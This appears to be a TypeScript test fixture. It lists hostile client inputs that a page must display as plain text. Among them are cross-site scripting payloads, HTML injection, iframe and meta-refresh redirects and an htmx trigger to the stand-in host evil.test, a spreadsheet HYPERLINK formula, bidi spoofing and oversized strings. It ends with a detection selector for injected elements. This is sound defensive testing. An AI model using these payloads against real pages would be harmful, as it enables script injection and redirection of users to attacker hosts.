/** Hostile texts that a client may send: a page must show them as text without any effect. */
export const hostileTexts = [
  '<script>document.title = "owned"</script>',
  '<img src=x onerror="document.title = \'owned\'">',
  '"><svg onload="document.title = \'owned\'">',
  "' style='position:fixed;inset:0' onmouseover='document.title=1",
  '</code></td></tr></table><h1 id="owned">owned</h1>',
  '<style>* { display: none }</style>',
  '<meta http-equiv="refresh" content="0; url=http://evil.test/">',
  '<iframe src="http://evil.test/"></iframe>',
  '${7 * 7} {{7 * 7}} javascript:alert(1)',
  '<b hx-get="http://evil.test/" hx-trigger="load">x</b>',
  '\u202Egnp.exe\u202C \u0000\u001B[31m\u200B',
  '=HYPERLINK("http://evil.test/")',
  'x'.repeat(200_000),
  'e\u0301'.repeat(500) + '\u0300'.repeat(2000),
] as const;

/** Whatever of it became part of a page, beside scripts of ours. */
export const foreignElements =
  '#owned, script:not([src^="/assets/"]), iframe, style, [style]:not(.uplot *), [onload], [onerror], [hx-get^="http"]';
